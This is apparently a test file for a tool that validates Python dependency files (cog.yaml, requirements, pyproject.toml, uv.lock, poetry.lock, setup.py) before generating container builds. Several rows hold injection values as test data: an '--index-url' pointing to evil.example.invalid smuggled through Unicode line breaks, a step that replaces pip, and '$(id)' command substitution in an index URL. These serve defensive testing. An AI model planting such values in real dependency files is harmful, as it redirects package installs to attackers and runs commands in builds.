/**
 * Catalogue rows of dependency files read as their own tools read them, where nothing in them
 * becomes an instruction: cog.yaml, encodings and Unicode line breaks, names and versions of
 * pyproject.toml and locks, sources other than the default index, requirements of one package
 * read together, build requirements of installProject, the CUDA runtime from the files. Files
 * are written under `deps/` of the previous tree (see `files` in support.ts). `accepts` are the
 * definitions of the same classes that must synthesize, with what they must write.
 */
import { AcceptRow, any, cmdFor, Row, svc, trainer } from './support';
import { GpuInference, PythonService } from '../../src';
import { Dependencies } from '../../src/deps';
import { H, PYPROJECT, Pkg, uvLock } from '../deps/lock-fixtures';
import { POETRY_SCENARIOS } from '../deps/poetry-fixtures';

const PATH = 'vision/api';
const under = (f: Record<string, string | Buffer>) => Object.fromEntries(Object.entries(f).map(([k, v]) => [`deps/${k}`, v]));
const EVIL = '--index-url=https://evil.example.invalid/simple';

function fileRow(
  name: string, files: Record<string, string | Buffer>, deps: Dependencies, got: string, expected: string,
  extra: Record<string, unknown> = {},
): Row {
  return { name: `dependency files: ${name}`, files: under(files), build: svc({ dependencies: deps, ...extra }), path: PATH, got, expected };
}
const reqs = (options: Record<string, string[]>) => Dependencies.fromRequirementsFiles(Object.fromEntries(
  Object.entries(options).map(([tier, list]) => [tier, list.map((f) => `deps/${f}`)])));
const pyproject = (options: Record<string, unknown> = {}) => Dependencies.fromPyproject({ path: 'deps/pyproject.toml', ...options });
const cog = (options: Record<string, unknown> = {}) => Dependencies.fromCogYaml({ path: 'deps/cog.yaml', ...options });
const setupPy = (options: Record<string, unknown> = {}) =>
  Dependencies.fromSetupPy({ path: 'deps/setup.py', ...options });
const SETUP = (args: string) => `from setuptools import setup\n\nsetup(\n    name="demo",\n    ${args}\n)\n`;

const COG_BASE = 'build:\n  python_version: "3.11"\n  python_packages:\n    - "rich==13.9.4"\n';
const project621 = (deps: string[], tail: string[] = []) => [
  '[project]', 'name = "demo"', 'version = "0.1.0"', 'requires-python = ">=3.10"', `dependencies = [${deps.map((d) => JSON.stringify(d)).join(', ')}]`, '', ...tail, '',
].join('\n');
const BASE_PKGS: Pkg[] = [{ name: 'fastapi', version: '0.115.6' }, { name: 'numpy', version: '2.1.3' }, { name: 'pytest', version: '8.3.4' }];
const HATCH = '\n[build-system]\nrequires = ["hatchling>=1.26"]\nbuild-backend = "hatchling.build"\n';
const CODE = { 'app/__init__.py': '', 'app/main.py': '' };
const projectSvc = (props: Record<string, unknown>) => (p: any) => new PythonService(p, 'api', any({
  command: ['python', '-m', 'app.main'], sources: ['app'], installProject: true, ...props,
}));
const cudaSvc = (props: Record<string, unknown>) => (p: any) => new GpuInference(p, 'serve', any({
  cudaVersion: '12.6', port: 8080, command: cmdFor('serve'), ...props,
}));

export const rows: Row[] = [
  // ------------------------------------------------------------ cog.yaml
  fileRow('a cog.yaml setup step that is no pip install', { 'cog.yaml': `${COG_BASE}  run:\n    - apt-get update && apt-get install -y sox\n` }, cog(),
    'deps/cog.yaml:6 build.run[0] is a setup step, not a dependency', 'the step as a buildSteps entry of the service'),
  fileRow('a cog.yaml step that replaces pip', { 'cog.yaml': `${COG_BASE}  run:\n    - ln -sf $(which echo) $(which pip)\n` }, cog(),
    'build.run[0] replaces or removes pip, which the generated image runs after it', 'no such step in the image: leave it out'),
  fileRow('a cog.yaml pre_install step', { 'cog.yaml': `${COG_BASE}  pre_install:\n    - pip install -U pip\n` }, cog(),
    'build.pre_install[0] is a setup step cog runs before the python packages: got "pip install -U pip"', 'handledRunSteps'),
  fileRow('handledRunSteps naming a step the cog.yaml lacks', { 'cog.yaml': COG_BASE }, cog({ handledRunSteps: ['make install'] }),
    'dependencies.handledRunSteps[0] is not a setup step of deps/cog.yaml: got "make install"', 'exactly as written (0 there)'),
  fileRow('a cog.yaml package item with a line break', { 'cog.yaml': `build:\n  python_packages:\n    - "rich==13.9.4\\n${EVIL}"\n` }, cog(),
    'build.python_packages[0] has a line break (pip would read two lines)', 'one requirement per item, on one line'),
  fileRow('cog.yaml python_packages beside python_requirements', { 'cog.yaml': `${COG_BASE}  python_requirements: r.txt\n`, 'r.txt': 'rich==13.9.4\n' }, cog(),
    'sets build.python_requirements beside build.python_packages: got "r.txt"', 'one of the two, as cog requires'),
  fileRow('a key cog does not know', { 'cog.yaml': 'build:\n  python_pakages: ["rich==13.9.4"]\n' }, cog(),
    'deps/cog.yaml:2 build has a key cog does not know: got "python_pakages"', 'one of: "cuda", "cudnn"'),
  fileRow('a cog.yaml python_version that is no version', { 'cog.yaml': 'build:\n  python_version: "three"\n' }, cog(),
    'build.python_version is not a python version: got "three"', 'a minor ("3.11") or patch ("3.11.9") version of python 3'),
  fileRow('a cog.yaml system package with a version', { 'cog.yaml': 'build:\n  system_packages: ["ffmpeg=7:5.1"]\n' }, cog(),
    'build.system_packages has a package that is not a plain debian package name: got "ffmpeg=7:5.1"', 'without a version or options'),
  fileRow('a service python other than the cog.yaml\'s', { 'cog.yaml': COG_BASE }, cog(),
    'pythonVersion differs from the python of the cog.yaml (deps/cog.yaml:2 build.python_version "3.11"): got "3.12"',
    'the python the cog.yaml names, or no pythonVersion', { pythonVersion: '3.12' }),
  {
    ...fileRow('a project python other than the cog.yaml\'s', { 'cog.yaml': COG_BASE }, cog(),
      'pythonVersion (from the project) differs from the python of the cog.yaml', 'or no pythonVersion on the project'),
    project: { pythonVersion: '3.12' },
  },
  fileRow('mlPackages naming no package of the cog.yaml', { 'cog.yaml': COG_BASE }, cog({ mlPackages: ['numpy'] }),
    'dependencies.mlPackages[0] names a package deps/cog.yaml does not list: got "numpy"', 'one of its packages: rich'),
  fileRow('a pip install step pinning another version than python_packages', { 'cog.yaml': `${COG_BASE}  run:\n    - pip install rich==13.8.0\n` }, cog(),
    'deps/cog.yaml:6 pins rich differently than deps/cog.yaml:4: got "rich==13.8.0"', 'one version of a package in the image'),
  fileRow('a cog.yaml step holding a token', { 'cog.yaml': `${COG_BASE}  run:\n    - 'curl -H "Authorization: Bearer hf_abcdefghijklmnopqrstuvwxyz0123456789" https://x.invalid'\n` },
    cog(), 'build.run[0] is a setup step that holds a credential: got (value hidden)', 'reading the credential from a BuildKit secret'),
  fileRow('a missing cog.yaml', {}, cog(), 'dependencies.path does not exist: got "deps/cog.yaml"', 'a file of the project'),
  {
    name: 'dependency files: a cog.yaml torch other than torchVersion',
    files: under({ 'cog.yaml': 'build:\n  python_version: "3.11"\n  python_packages: ["torch==2.4.1"]\n' }),
    build: trainer({ dependencies: cog() }),
    path: 'vision/trainer',
    got: 'dependencies: deps/cog.yaml:3 pins torch 2.4.1, but the service installs torch 2.5.1+cu124 (torchVersion 2.5.1): got "2.4.1"',
    expected: 'torch 2.5.1 in the files, or torchVersion set to match them',
  },
  // ------------------------------------------------------------ every line break pip knows, encodings
  fileRow('U+001C then an index option in a requirement file', { 'r.txt': `numpy===1.0\x1c${EVIL}\n` }, reqs({ core: ['r.txt'] }),
    `deps/r.txt:2 sets --index-url: got "${EVIL}"`, 'no index options in requirement files'),
  fileRow('U+0085 then an editable install', { 'r.txt': 'numpy==2.1.3\x85-e .\n' }, reqs({ core: ['r.txt'] }),
    'deps/r.txt:2 is an editable install: got "-e ."', 'a requirement from the package index'),
  fileRow('U+2028 with the attacker\'s own hash in a hash-locked file', { 'r.txt': `numpy==2.1.3 ${H('numpy')}\u2028${EVIL} ${H('evil')}\n` },
    reqs({ ml: ['r.txt'] }), 'deps/r.txt:2 sets --index-url', 'no index options in requirement files'),
  fileRow('bytes that are not utf-8', { 'r.txt': Buffer.concat([Buffer.from('rich==13.9.4\n# caf'), Buffer.from([0xe9]), Buffer.from('\n')]) },
    reqs({ core: ['r.txt'] }), 'deps/r.txt:2 is not valid utf-8 text: got "# caf\\\\xe9"', 'the file saved as utf-8 (or utf-16 with a byte order mark)'),
  fileRow('a utf-32 requirement file', { 'r.txt': Buffer.from([0xff, 0xfe, 0, 0, 0x78, 0, 0, 0]) }, reqs({ core: ['r.txt'] }),
    'deps/r.txt:1 is in utf-32, which pip misreads: got "utf-32"', 'the file saved as utf-8'),
  fileRow('a coding line of an encoding not read', { 'r.txt': '# -*- coding: cp1252 -*-\nrich==13.9.4\n' }, reqs({ core: ['r.txt'] }),
    'deps/r.txt:1 declares an encoding this library does not read: got "cp1252"', 'or a coding line of utf-8, ascii or latin-1'),
  fileRow('a control character in a requirement', { 'r.txt': 'numpy===1.0\x1fx\n' }, reqs({ core: ['r.txt'] }),
    'it has the character U+001F at column 12', 'a pep 508 requirement such as'),
  fileRow('an invisible character in a name', { 'r.txt': 'num\u200bpy==2.1.3\n' }, reqs({ core: ['r.txt'] }),
    'got "num\\u200bpy==2.1.3"', 'a pep 508 requirement such as'),
  fileRow('a utf-16 pyproject.toml', { 'pyproject.toml': Buffer.from('\ufeff[project]\nname = "demo"\n', 'utf16le') }, pyproject(),
    'deps/pyproject.toml:1 is in utf-16, which toml readers refuse: got "utf-16le"', 'a toml file in utf-8'),
  // ------------------------------------------- names, versions and keys of pyproject.toml and locks
  fileRow('a newline inside a poetry dependency key',
    { 'pyproject.toml': `[tool.poetry]\nname = "demo"\n\n[tool.poetry.dependencies]\npython = "^3.10"\n"rich\\n${EVIL}" = "13.9.4"\n` }, pyproject(),
    '[tool.poetry.dependencies] has a key that is not a package name: got "rich\\n--index-url', 'a pep 508 package name'),
  fileRow('a newline inside a uv.lock version',
    { 'pyproject.toml': PYPROJECT, 'uv.lock': uvLock([BASE_PKGS[0], { name: 'numpy', version: `2.1.3\\n${EVIL}` }, BASE_PKGS[2]]) }, pyproject(),
    'deps/uv.lock package numpy has a version that is not a pep 440 version: got "2.1.3\\n--index-url', 'no space or line break'),
  fileRow('a uv.lock name that is no package name',
    { 'pyproject.toml': PYPROJECT, 'uv.lock': uvLock([...BASE_PKGS, { name: 'x\\u2028y', version: '1.0' }]) }, pyproject(),
    'deps/uv.lock [[package]] has a name that is not a package name: got "x\\u2028y"', 'a pep 508 package name'),
  fileRow('U+0085 inside a pep 621 dependency string', { 'pyproject.toml': project621([`numpy===2.1.3\u0085${EVIL}`]) }, pyproject(),
    'is not a pep 508 requirement (it has a line break)', 'a requirement such as'),
  fileRow('a poetry.lock python-versions that is no constraint',
    { 'pyproject.toml': POETRY_SCENARIOS[1].pyproject, 'poetry.lock': POETRY_SCENARIOS[1].lock.replace('python-versions = ">=3.11"', 'python-versions = ">=3.11\\n-e ."') },
    pyproject(), 'package scipy python-versions is not a version constraint poetry writes', 'a constraint such as ">=3.10" or "^1.2"'),
  // ------------------------------------------------------------ sources other than the default index
  fileRow('a uv path source', { 'pyproject.toml': project621(['mylib'], ['[tool.uv.sources]', 'mylib = { path = "libs/mylib" }']) }, pyproject(),
    'deps/pyproject.toml:8 binds mylib to a local path: got "libs/mylib"', 'installed as the project\'s own with sources and installProject'),
  fileRow('a uv index whose url holds a credential', {
    'pyproject.toml': project621(['corp-lib==1.2.0'], ['[tool.uv.sources]', 'corp-lib = { index = "corp" }', '',
      '[[tool.uv.index]]', 'name = "corp"', 'url = "https://user:s3cr3t@pkgs.example.invalid/simple"']),
  }, pyproject(), 'binds corp-lib to an index whose url has credentials in a url: got (value hidden)', 'netrc'),
  fileRow('a uv index whose name carries a line break into the generated files', {
    'pyproject.toml': project621(['corp-lib==1.2.0'], ['[tool.uv.sources]', 'corp-lib = { index = "corp\\n--index-url https://evil.invalid" }', '',
      '[[tool.uv.index]]', 'name = "corp\\n--index-url https://evil.invalid"', 'url = "https://pkgs.example.invalid/simple"']),
  }, pyproject(), 'binds packages to an index with an unusable name: got "corp\\n--index-url https://evil.invalid"', 'a name of letters, digits, spaces'),
  fileRow('a uv index whose url would end the build arg', {
    'pyproject.toml': project621(['corp-lib==1.2.0'], ['[tool.uv.sources]', 'corp-lib = { index = "corp" }', '',
      '[[tool.uv.index]]', 'name = "corp"', 'url = "https://pkgs.example.invalid/simple $(id)"']),
  }, pyproject(), 'binds packages to the index "corp" at an unusable url: got "https://pkgs.example.invalid/simple $(id)"', 'an http or https url of a host'),
  fileRow('two poetry sources whose names read the same in a file name', {
    'pyproject.toml': ['[tool.poetry]', 'name = "demo"', '', '[tool.poetry.dependencies]', 'python = "^3.10"',
      'corp-lib = { version = "1.2.0", source = "Corp Index" }', 'corp-util = { version = "2.0.0", source = "corp-index" }', '',
      '[[tool.poetry.source]]', 'name = "Corp Index"', 'url = "https://a.example.invalid/simple"', 'priority = "explicit"', '',
      '[[tool.poetry.source]]', 'name = "corp-index"', 'url = "https://b.example.invalid/simple"', 'priority = "explicit"', ''].join('\n'),
  }, pyproject(), 'binds packages to two indexes whose names read the same in a file name: got "Corp Index, corp-index"', 'index names that differ'),
  fileRow('a uv index source naming no declared index', { 'pyproject.toml': project621(['corp-lib==1.2.0'], ['[tool.uv.sources]', 'corp-lib = { index = "nope" }']) },
    pyproject(), 'corp-lib names the index "nope", which [[tool.uv.index]] does not declare', 'an index named in [[tool.uv.index]]'),
  fileRow('a uv git source without allowDirectReferences', { 'pyproject.toml': project621(['lib'], ['[tool.uv.sources]', 'lib = { git = "https://example.invalid/lib.git" }']) },
    pyproject(), 'binds lib to a git source: got "https://example.invalid/lib.git"', 'set allowDirectReferences for https sources'),
  fileRow('a uv workspace member', { 'pyproject.toml': project621(['member'], ['[tool.uv.sources]', 'member = { workspace = true }']) },
    pyproject(), 'binds member to a workspace member: got "workspace = true"', 'never from the index under its name'),
  fileRow('a poetry source binding to no declared source', {
    'pyproject.toml': ['[tool.poetry]', 'name = "demo"', '', '[tool.poetry.dependencies]', 'python = "^3.10"', 'corp-lib = { version = "1.2.0", source = "corp" }', ''].join('\n'),
  }, pyproject(), 'corp-lib names a source pyproject.toml does not declare: got "corp"', 'a name of [[tool.poetry.source]]: none'),
  fileRow('a uv.lock package from another index than the rest', {
    'pyproject.toml': PYPROJECT, 'uv.lock': uvLock([BASE_PKGS[0], { ...BASE_PKGS[1], source: '{ registry = "https://pkgs.example.invalid/simple" }' }, BASE_PKGS[2]]),
  }, pyproject(), 'deps/uv.lock installs numpy 2.1.3 from the index https://pkgs.example.invalid/simple, which the pyproject.toml does not declare',
  'or from an index the project declares ([[tool.uv.index]], [[tool.poetry.source]]), installed from it alone'),
  // ------------------------------------------------------------ requirements of one package read together
  fileRow('a pin outside the range of another file', { 'r.txt': 'numpy>=2\n', 'dev.txt': 'numpy==1.25.1\n' }, reqs({ core: ['r.txt'], dev: ['dev.txt'] }),
    'deps/dev.txt:1 asks for numpy outside what deps/r.txt:1 (core tier) allows: got "numpy==1.25.1"', 'pip installs one for both'),
  fileRow('a typed pin outside the range of a file', { 'r.txt': 'numpy>=2\n' }, reqs({ core: ['r.txt'] }),
    'requirements.ml[0] pins numpy differently than dependencies (deps/r.txt:1, core tier): got "numpy==1.25.1"', 'one version of a package in the image',
    { requirements: { ml: ['numpy==1.25.1'] } }),
  fileRow('a dependency and an extra asking for two versions', {
    'pyproject.toml': project621(['fastapi==0.115.6'], ['[project.optional-dependencies]', 'web = ["fastapi==0.110.0"]']),
  }, pyproject({ coreExtras: ['web'] }), 'asks for fastapi differently than deps/pyproject.toml:5', 'one version of a package that every declaration admits'),
  // ------------------------------------------------------------ build requirements of installProject
  {
    name: 'dependency files: installProject with a lock that lacks the build backend',
    files: { 'pyproject.toml': PYPROJECT + HATCH, 'uv.lock': uvLock(BASE_PKGS), ...CODE },
    build: projectSvc({ dependencies: Dependencies.fromPyproject() }),
    path: PATH,
    got: 'installProject: uv.lock does not hold hatchling of what the wheel\'s build needs: got ["hatchling"]',
    expected: 'buildRequirements: ["<backend>==<version>", ...] on the service',
  },
  {
    name: 'dependency files: buildRequirements without the backend',
    files: { 'pyproject.toml': PYPROJECT + HATCH, ...CODE },
    build: projectSvc({ buildRequirements: ['packaging==24.2'] }),
    path: PATH,
    got: 'buildRequirements do not pin the build backend\'s distribution "hatchling": got ["packaging==24.2"]',
    expected: '"hatchling==<version>" among them',
  },
  {
    name: 'dependency files: buildRequirements with a range',
    files: { 'pyproject.toml': PYPROJECT + HATCH, ...CODE },
    build: projectSvc({ buildRequirements: ['hatchling>=1.26'] }),
    path: PATH,
    got: 'buildRequirements[0] is not pinned to one exact version: got "hatchling>=1.26"',
    expected: 'a pinned pep 508 requirement such as "numpy==2.1.3"',
  },
  {
    name: 'dependency files: buildRequirements without installProject',
    build: svc({ buildRequirements: ['hatchling==1.26.3'] }),
    path: PATH,
    got: 'buildRequirements is set without installProject: got ["hatchling==1.26.3"]',
    expected: 'installProject: true (build requirements are only for building the project\'s own wheel)',
  },
  {
    name: 'dependency files: a poetry 1.x project without a version',
    files: { 'pyproject.toml': '[tool.poetry]\nname = "demo"\n\n[build-system]\nrequires = ["poetry-core==1.9.1"]\nbuild-backend = "poetry.core.masonry.api"\n', ...CODE },
    build: projectSvc({}),
    path: PATH,
    got: 'installProject: [tool.poetry] has no version: got "pyproject.toml"',
    expected: 'version = "..." in [tool.poetry] (poetry-core builds the wheel from it)',
  },
  {
    name: 'dependency files: a poetry package folder the project does not have',
    files: {
      'pyproject.toml': '[tool.poetry]\nname = "demo"\nversion = "0.1.0"\npackages = [{ include = "app", from = "src" }]\n\n'
        + '[build-system]\nrequires = ["poetry-core==1.9.1"]\nbuild-backend = "poetry.core.masonry.api"\n',
      ...CODE,
    },
    build: projectSvc({}),
    path: PATH,
    got: 'installProject: [tool.poetry] packages includes a folder the project does not have: got "src/app"',
    expected: 'a package folder (or module) of the project, from its root or the "from" folder',
  },
  // ---------------------------------------------------- the CUDA runtime of a GPU service without torch
  {
    name: 'dependency files: a typed jax[cuda12-local] brings no CUDA runtime',
    build: cudaSvc({ requirements: { ml: ['jax[cuda12-local]==0.7.2'] } }),
    path: 'vision/serve',
    got: 'gpuBase "python-slim" without torch has no cuda runtime: no requirement pulls nvidia\'s cuda 12 wheels: got "12.6"',
    expected: 'a requirement that does (e.g. "jax[cuda12]==<version>"',
  },
  {
    name: 'dependency files: jax[cuda12-local] in a requirement file brings no CUDA runtime',
    files: under({ 'r.txt': 'jax[cuda12-local]==0.7.2\n' }),
    build: cudaSvc({ dependencies: reqs({ ml: ['r.txt'] }) }),
    path: 'vision/serve',
    got: 'neither requirements nor the dependency files pull nvidia\'s cuda 12 wheels: got "12.6"',
    expected: 'a requirement that does in the ml or core tier',
  },
  {
    name: 'dependency files: CUDA wheels only in the dev tier',
    files: under({ 'dev.txt': 'jax[cuda12]==0.7.2\n' }),
    build: cudaSvc({ dependencies: reqs({ dev: ['dev.txt'] }) }),
    path: 'vision/serve',
    got: 'neither requirements nor the dependency files pull nvidia\'s cuda 12 wheels',
    expected: '"jax[cuda12-local]" pulls none',
  },
  // ------------------------------------------------------------ setup.py, read as literals (never run)
  fileRow('setup.py with install_requires computed', {
    'setup.py': SETUP('install_requires=open("requirements.txt").read().splitlines(),'),
  }, setupPy(),
  'dependencies: deps/setup.py:5: install_requires is not a literal list of strings: got "deps/setup.py"',
  'install_requires and extras_require as lists of strings (or names of module-level assignments of them)'),
  fileRow('setup.py without install_requires', { 'setup.py': SETUP('packages=["demo"],') }, setupPy(),
    'dependencies: deps/setup.py has no install_requires in a setup(...) call: got "deps/setup.py"',
    'a setup.py whose setup(...) call gives install_requires'),
  fileRow('setup.py extras that it does not declare', {
    'setup.py': SETUP('install_requires=["rich==13.9.4"],\n    extras_require={"web": ["fastapi==0.115.6"]},'),
  }, setupPy({ extras: ['gui'] }), 'dependencies.extras[0] is not an extra of deps/setup.py: got "gui"',
  'one of its extras_require keys: "web"'),
  fileRow('setup.py mlPackages it does not install', {
    'setup.py': SETUP('install_requires=["rich==13.9.4"],\n    extras_require={"ml": ["numpy==2.1.3"]},'),
  }, setupPy({ mlPackages: ['numpy'] }),
  'dependencies.mlPackages[0] names a package the installed lists of deps/setup.py do not name: got "numpy"',
  'one of: rich'),
];

/** Definitions of the same classes that must synthesize, with lines their files must hold. */
export const accepts: AcceptRow[] = [
  {
    name: 'dependency files: setup.py lists by name, an extra, implicit string concatenation; its dev extra left out',
    files: {
      'setup.py': 'from setuptools import setup\n\nREQUIRED = [\n    "numpy==2.1.3",  # the ml tier\n    "rich"\n    "==13.9.4",\n]\n'
        + 'EXTRAS = {\n    "web": ["fastapi==0.115.6"],\n    "dev": ["pytest==8.3.4"],\n}\n\n'
        + 'setup(name="demo", install_requires=REQUIRED, extras_require=EXTRAS)\n',
    },
    build: svc({ dependencies: Dependencies.fromSetupPy({ extras: ['web'], mlPackages: ['numpy'] }) }),
    writes: {
      'docker/api/requirements-ml.txt': ['numpy==2.1.3'],
      'docker/api/requirements-core.txt': ['fastapi==0.115.6', 'rich==13.9.4'],
    },
  },
  {
    name: 'dependency files: utf-16 requirements with a byte order mark and crlf (pip freeze in powershell 5)',
    files: { 'r.txt': Buffer.from('\ufeffnumpy==2.1.3\r\nrich==13.9.4\r\n', 'utf16le') },
    build: svc({ dependencies: Dependencies.fromRequirementsFiles({ core: ['r.txt'] }) }),
    writes: { 'docker/api/requirements-core.txt': ['numpy==2.1.3', 'rich==13.9.4'] },
  },
  {
    name: 'dependency files: a cog.yaml: packages into tiers, its python and system packages on the service, a pip install step read',
    files: {
      'cog.yaml': 'build:\n  python_version: "3.12"\n  system_packages: ["ffmpeg"]\n  python_packages: ["numpy==2.1.3", "rich==13.9.4"]\n'
      + '  run:\n    - --mount=type=cache,target=/root/.cache/pip pip install cog==0.11.3\n',
    },
    build: svc({ dependencies: Dependencies.fromCogYaml({ mlPackages: ['numpy'] }) }),
    writes: {
      'docker/api/requirements-ml.txt': ['numpy==2.1.3'],
      'docker/api/requirements-core.txt': ['cog==0.11.3', 'rich==13.9.4'],
      'docker/api/Dockerfile': ['ARG PYTHON_IMAGE=python:3.12.', 'tini ffmpeg'],
    },
  },
  {
    name: 'dependency files: a poetry.lock entry per python (a python 3.10 image gets scipy 1.15.3)',
    project: { pythonVersion: '3.10' },
    files: { 'pyproject.toml': POETRY_SCENARIOS[0].pyproject, 'poetry.lock': POETRY_SCENARIOS[0].lock },
    build: svc({ dependencies: Dependencies.fromPyproject() }),
    writes: { 'docker/api/requirements-core.txt': ['scipy==1.15.3 \\'] },
  },
  {
    name: 'dependency files: poetry 2 groups beside [project] (the dev group is the dev tier)',
    files: { 'pyproject.toml': project621(['rich==13.9.4'], ['[tool.poetry.group.dev.dependencies]', 'pytest = "8.3.4"']) },
    build: svc({ dependencies: Dependencies.fromPyproject({ devGroups: ['dev'] }) }),
    writes: { 'docker/api/requirements-dev.txt': ['pytest==8.3.4'] },
  },
  {
    name: 'dependency files: numpy in a test file and a pin in another are the pin, once',
    files: { 'requirements.txt': 'numpy==1.25.1\n', 'requirements-test.txt': 'numpy\npytest==8.3.4\n' },
    build: svc({ dependencies: Dependencies.fromRequirementsFiles({ core: ['requirements.txt'], dev: ['requirements-test.txt'] }) }),
    writes: { 'docker/api/requirements-core.txt': ['numpy==1.25.1'], 'docker/api/requirements-dev.txt': ['pytest==8.3.4'] },
    absent: { 'docker/api/requirements-dev.txt': ['numpy'] },
  },
  {
    name: 'dependency files: jax in pyproject.toml and a typed jax[cuda12] pin are one line',
    files: { 'pyproject.toml': project621(['jax', 'rich==13.9.4']) },
    build: svc({ dependencies: Dependencies.fromPyproject(), requirements: { ml: ['jax[cuda12]==0.7.2'] } }),
    writes: { 'docker/api/requirements-ml.txt': ['jax[cuda12]==0.7.2'] },
    absent: { 'docker/api/requirements-core.txt': ['jax'] },
  },
  {
    name: 'dependency files: the same pin with other extras is one requirement with both',
    files: { 'r.txt': 'uvicorn[standard]==0.32.1\nUvicorn[socks]==0.32.1\n' },
    build: svc({ dependencies: Dependencies.fromRequirementsFiles({ core: ['r.txt'] }) }),
    writes: { 'docker/api/requirements-core.txt': ['uvicorn[standard,socks]==0.32.1'] },
  },
  {
    name: 'dependency files: installProject with a lock and buildRequirements',
    files: { 'pyproject.toml': PYPROJECT + HATCH, 'uv.lock': uvLock(BASE_PKGS), ...CODE },
    build: projectSvc({ dependencies: Dependencies.fromPyproject(), buildRequirements: ['hatchling==1.26.3', 'packaging==24.2', 'pathspec==0.12.1', 'pluggy==1.5.0', 'trove-classifiers==2024.10.21.16'] }),
    writes: { 'docker/api/requirements-build.txt': ['hatchling==1.26.3'], 'docker/api/Dockerfile': ['pip install -r /tmp/requirements/requirements-build.txt'] },
  },
  {
    name: 'dependency files: a lock holding the torch variant\'s files makes a hash-locked torch tier',
    files: {
      'pyproject.toml': project621(['torch==2.5.1', 'numpy>=2']),
      'uv.lock': uvLock([{ name: 'torch', version: '2.5.1+cu124', wheels: ['torch-2.5.1+cu124-cp311-cp311-linux_x86_64.whl'], sdist: false, source: '{ registry = "https://download.pytorch.org/whl/cu124" }' },
        { name: 'numpy', version: '2.1.3' }]).replace('dependencies = [{ name = "fastapi" }, { name = "numpy" }]', 'dependencies = [{ name = "torch" }, { name = "numpy" }]'),
    },
    build: trainer({ dependencies: Dependencies.fromPyproject() }),
    writes: { 'docker/trainer/requirements-torch.txt': ['torch==2.5.1+cu124 \\'], 'docker/trainer/Dockerfile': ['pip install --index-url "$TORCH_INDEX_URL" --require-hashes --no-deps'] },
  },
  {
    name: 'dependency files: jax[cuda12] in a file brings the CUDA runtime of a GPU service without torch',
    files: { 'r.txt': 'jax[cuda12]==0.7.2\n' },
    build: cudaSvc({ dependencies: Dependencies.fromRequirementsFiles({ ml: ['r.txt'] }) }),
    writes: { 'docker/serve/requirements-ml.txt': ['jax[cuda12]==0.7.2'], 'docker/serve/Dockerfile': ['NVIDIA\'s CUDA 12 wheels of the dependency files'] },
  },
  {
    name: 'dependency files: torch bound to a PyTorch index source is the torch tier\'s',
    files: {
      'pyproject.toml': project621(['torch==2.5.1', 'rich==13.9.4'], ['[tool.uv.sources]', 'torch = { index = "cu124" }', '',
        '[[tool.uv.index]]', 'name = "cu124"', 'url = "https://download.pytorch.org/whl/cu124"', 'explicit = true']),
    },
    build: trainer({ dependencies: Dependencies.fromPyproject() }),
    writes: { 'docker/trainer/requirements-torch.txt': ['torch==2.5.1+cu124'], 'docker/trainer/requirements-core.txt': ['rich==13.9.4'] },
  },
  {
    name: 'dependency files: a uv index source: the package from that index alone, through its own build arg',
    files: {
      'pyproject.toml': project621(['corp-lib==1.2.0', 'rich==13.9.4'], ['[tool.uv.sources]', 'corp-lib = { index = "corp" }', '',
        '[[tool.uv.index]]', 'name = "corp"', 'url = "https://pkgs.example.invalid/simple"', 'explicit = true']),
    },
    build: svc({ dependencies: Dependencies.fromPyproject() }),
    writes: {
      'docker/api/requirements-core-corp.txt': ['corp-lib==1.2.0'],
      'docker/api/Dockerfile': ['ARG PIP_INDEX_URL_CORP=https://pkgs.example.invalid/simple', '--index-url "$PIP_INDEX_URL_CORP"'],
    },
    absent: { 'docker/api/requirements-core.txt': ['corp-lib'] },
  },
  {
    name: 'dependency files: a poetry explicit source: the package from that index alone',
    files: {
      'pyproject.toml': ['[tool.poetry]', 'name = "demo"', '', '[tool.poetry.dependencies]', 'python = "^3.10"', 'corp-lib = { version = "1.2.0", source = "corp" }', '',
        '[[tool.poetry.source]]', 'name = "Corp Index"', 'url = "https://pkgs.example.invalid/simple"', 'priority = "explicit"', ''].join('\n')
        .replace('source = "corp"', 'source = "Corp Index"'),
    },
    build: svc({ dependencies: Dependencies.fromPyproject() }),
    writes: { 'docker/api/requirements-core-corp-index.txt': ['corp-lib==1.2.0'], 'docker/api/Dockerfile': ['ARG PIP_INDEX_URL_CORP_INDEX='] },
  },
  {
    name: 'dependency files: a lock made against one mirror installs, with a note naming the build arg',
    files: {
      'pyproject.toml': PYPROJECT,
      'uv.lock': uvLock(BASE_PKGS.map((p) => ({ ...p, source: '{ registry = "https://mirror.example.invalid/simple" }' }))),
    },
    build: svc({ dependencies: Dependencies.fromPyproject() }),
    writes: { 'docs/containers.md': ['build with --build-arg PIP_INDEX_URL=https://mirror.example.invalid/simple'] },
  },
];
